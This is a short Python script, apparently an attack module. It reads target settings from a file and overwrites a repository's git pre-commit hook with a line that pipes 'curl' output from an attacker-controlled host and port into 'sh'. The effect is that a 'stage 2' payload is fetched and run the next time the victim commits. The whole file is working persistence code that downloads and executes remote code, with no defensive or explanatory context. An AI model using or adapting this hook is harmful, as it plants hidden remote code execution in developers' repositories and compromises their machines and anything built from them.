# git-hooks: a pre-commit hook that runs stage 2 at the next commit.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
hook = os.path.join(T["T_WORK"], ".git", "hooks", "pre-commit")
try:
    with open(hook, "w") as f:
        f.write("#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n" % (T["T_TCP_HOST"], T["T_TCP_PORT"]))
    os.chmod(hook, 0o755)
    print(os.listdir(os.path.dirname(hook)))
except OSError as e:
    print(e)
